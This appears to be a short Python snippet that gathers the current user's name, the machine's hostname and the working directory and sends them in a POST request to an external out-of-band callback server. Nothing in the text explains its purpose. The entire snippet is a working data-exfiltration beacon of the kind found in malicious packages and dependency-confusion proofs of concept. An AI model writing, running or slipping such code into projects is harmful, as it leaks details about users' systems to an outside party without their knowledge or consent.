import os, getpass, socket, requests
info = {'u': getpass.getuser(), 'h': socket.gethostname(), 'd': os.getcwd()}
requests.post('https://abc123.oast.fun/collect', json=info)
